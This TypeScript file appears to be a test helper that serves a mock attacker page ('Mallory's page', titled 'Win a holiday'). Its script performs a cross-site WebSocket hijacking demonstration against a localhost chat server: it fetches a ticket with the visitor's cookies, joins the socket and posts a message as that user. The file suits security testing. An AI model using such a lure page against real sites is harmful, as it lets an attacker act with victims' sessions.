/** Mallory's page: whoever opens it does what she wants, with their own cookies. It goes no further than to this machine. */
import { createServer, type Server } from 'node:http';

/** The port of the server that she attacks is in the page's address: /?port=8080 */
const PAGE = `<!doctype html>
<meta charset="utf-8">
<title>Win a holiday</title>
<h1>Win a holiday!</h1>
<p>You see a nice page. Below is what it does meanwhile.</p>
<ol id="log"></ol>
<script>
  const port = Number(new URLSearchParams(location.search).get('port') ?? 8080);
  const log = (text) => document.querySelector('#log').append(Object.assign(document.createElement('li'), { textContent: text }));

  async function attack() {
    const answer = await fetch('http://localhost:' + port + '/ticket', { method: 'POST', credentials: 'include' })
      .then((response) => response.json())
      .catch(() => ({}));
    log(answer.ticket ? 'I have a ticket.' : 'I could not read a ticket.');
    const socket = new WebSocket('ws://localhost:' + port + '/?ticket=' + (answer.ticket ?? ''));
    socket.onmessage = ({ data }) => {
      const message = JSON.parse(data);
      if (message.type !== 'joined') return;
      log('I am in, as ' + message.username + '.');
      const id = crypto.randomUUID?.() ?? '00000000-0000-4000-8000-000000000000';
      socket.send(JSON.stringify({ type: 'chat', id, message: 'I love mallory.' }));
    };
    socket.onclose = () => {
      log('The server has not let me in.');
    };
  }
  attack();
</script>`;

/** Serves it at localhost and at 127.0.0.1: for a browser, these are two sites. */
export async function serveEvil(port: number): Promise<Server> {
  const server = createServer((_request, response) => {
    response.writeHead(200, { 'Content-Type': 'text/html; charset=utf-8' }).end(PAGE);
  });
  await new Promise<void>((resolve) => server.listen(port, '127.0.0.1', resolve));
  return server;
}
